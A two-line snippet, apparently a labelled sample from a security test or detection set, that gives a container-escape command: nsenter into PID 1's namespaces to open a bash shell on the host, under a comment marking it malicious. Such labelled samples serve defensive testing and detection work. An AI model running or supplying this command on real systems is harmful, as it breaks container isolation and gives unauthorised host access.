# Malicious: nsenter into PID 1's namespaces for a host shell.
nsenter -t 1 -m -u -i -n -p -- /bin/bash
